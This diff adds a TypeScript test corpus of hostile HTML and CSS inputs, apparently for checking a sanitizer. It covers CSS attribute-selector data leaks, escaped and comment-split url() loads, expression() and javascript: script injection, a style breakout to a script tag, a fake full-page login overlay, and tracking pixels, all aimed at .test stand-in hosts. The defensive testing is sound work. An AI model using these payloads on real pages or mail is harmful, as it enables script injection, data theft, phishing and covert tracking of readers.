@@ -1,0 +1,80 @@
+// What is loaded or leaves its place by way of styles, and images that tell who reads.
+import type { Row } from './corpus.ts'
+
+export const STYLES: Readonly<Record<string, readonly Row[]>> = {
+  css: [
+    ['import', '<style>@import url(http://y.c.test/i.css);</style>'],
+    ['import as a string', '<style>@import "http://y.c.test/i.css";</style>'],
+    ['attribute selectors', '<style>input[value^=a]{background:url(http://y.c.test/a)}</style><input value=abc>'],
+    ['font', '<style>@font-face{font-family:x;src:url(http://y.c.test/f)}b{font-family:x}</style><b>x</b>'],
+    ['inline', '<b style="background:url(http://y.c.test/b)">x</b>'],
+    ['inline quoted', `<b style='background-image:url("http://y.c.test/b")'>x</b>`],
+    ['no scheme', '<b style="background:url(//y.c.test/b)">x</b>'],
+    ['escaped', '<b style="background:\\75\\72\\6c(http://y.c.test/b)">x</b>'],
+    ['comment', '<b style="background:u/**/rl(http://y.c.test/b);list-style:url(/**/http://y.c.test/c)">x</b>'],
+    ['open comment', '<b style="color:red/*;background:url(http://y.c.test/b)">x</b>'],
+    ['image-set', '<b style="background:image-set(\'http://y.c.test/s\' 1x)">x</b>'],
+    ['src function', '<b style="background:src(\'http://y.c.test/s\')">x</b>'],
+    ['cross-fade', '<b style="background:-webkit-cross-fade(url(http://y.c.test/s),url(http://y.c.test/t),1%)">x</b>'],
+    ['var', '<b style="--x:url(http://y.c.test/v);background:var(--x)">x</b>'],
+    ['cursor', '<b style="cursor:url(http://y.c.test/c),auto">x</b>'],
+    ['list', '<li style="list-style:url(http://y.c.test/l)">x</li>'],
+    [
+      'border',
+      '<b style="border-image:url(http://y.c.test/b) 1;mask:url(http://y.c.test/m);filter:url(http://y.c.test/f)">x',
+    ],
+    [
+      'content',
+      '<style>b:after{content:url(http://y.c.test/c)}</style><b style="content:url(http://y.c.test/d)">x</b>',
+    ],
+    ['expression', '<b style="width:expression(alert(1))">x</b>'],
+    ['binding', '<b style="-moz-binding:url(http://y.c.test/x.xml#y);behavior:url(http://y.c.test/x.htc)">x</b>'],
+    ['javascript', '<b style="background:url(javascript:alert(1))">x</b>'],
+    ['breaks out', '<b style="color:red&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</b>'],
+    [
+      'unbalanced',
+      '<b style="background:url(http://y.c.test/u">x</b><b style="color:red;)background:url(http://y.c.test/w)">',
+    ],
+    ['quote tricks', `<b style="font-family:'a\\'';background:url(http://y.c.test/q)">x</b>`],
+    ['fixed over the page', '<div style="position:fixed;inset:0;z-index:9999;background:#fff">log in</div>'],
+    ['link', '<link rel=stylesheet href=http://y.c.test/l.css><link rel=preload as=image href=http://y.c.test/p>'],
+    ['xml stylesheet', '<?xml-stylesheet href="http://y.c.test/x.css"?>'],
+    ['scope', '<style scoped>@scope (b){:scope{background:url(http://y.c.test/s)}}</style><b>x</b>'],
+    ['style end in an attribute', '<style>a{}</style title="x"><style>b{background:url(http://y.c.test/e)}'],
+  ],
+  tracking: [
+    ['pixel', '<img src="http://t.c.test/p.gif" width=1 height=1>'],
+    ['https', '<img src="https://t.c.test/p.gif">'],
+    ['no scheme', '<img src="//t.c.test/p.gif">'],
+    [
+      'srcset',
+      '<img srcset="http://t.c.test/s.gif 1x, http://t.c.test/t.gif 2x"><picture><source srcset=http://t.c.test/u></picture>',
+    ],
+    [
+      'background',
+      '<body background=http://t.c.test/b><table background="http://t.c.test/t"><td background=http://t.c.test/d>',
+    ],
+    [
+      'media',
+      '<video poster=http://t.c.test/p src=http://t.c.test/v autoplay></video><audio src=http://t.c.test/a autoplay></audio>',
+    ],
+    ['track', '<video><track src=http://t.c.test/t default></video><bgsound src=http://t.c.test/b>'],
+    [
+      'prefetch',
+      '<link rel=dns-prefetch href=//t.c.test><link rel=preconnect href=http://t.c.test><link rel=prefetch href=http://t.c.test/p>',
+    ],
+    ['icon', '<link rel=icon href=http://t.c.test/i.ico><link rel=manifest href=http://t.c.test/m>'],
+    ['input', '<input type=image src=http://t.c.test/i>'],
+    ['ping', '<a href="http://t.c.test/a" ping="http://t.c.test/ping">x</a>'],
+    ['image tag', '<image src=http://t.c.test/i>'],
+    ['lazy', '<img loading=eager decoding=sync src=http://t.c.test/i fetchpriority=high>'],
+    [
+      'attribution',
+      '<img attributionsrc="http://t.c.test/a"><a attributionsrc="http://t.c.test/b" href=http://t.c.test/c>x</a>',
+    ],
+    ['speculation', '<script type=speculationrules>{"prefetch":[{"urls":["http://t.c.test/s"]}]}</script>'],
+    ['portal', '<portal src=http://t.c.test/p></portal><fencedframe src=https://t.c.test/f></fencedframe>'],
+    ['line end in the address', '<img src="ht\ntp://t.c.test/i">'],
+    ['backslashes', '<img src="http:\\\\t.c.test\\i"><img src="\\\\t.c.test\\i"><img src="/\\t.c.test/i">'],
+  ],
+}
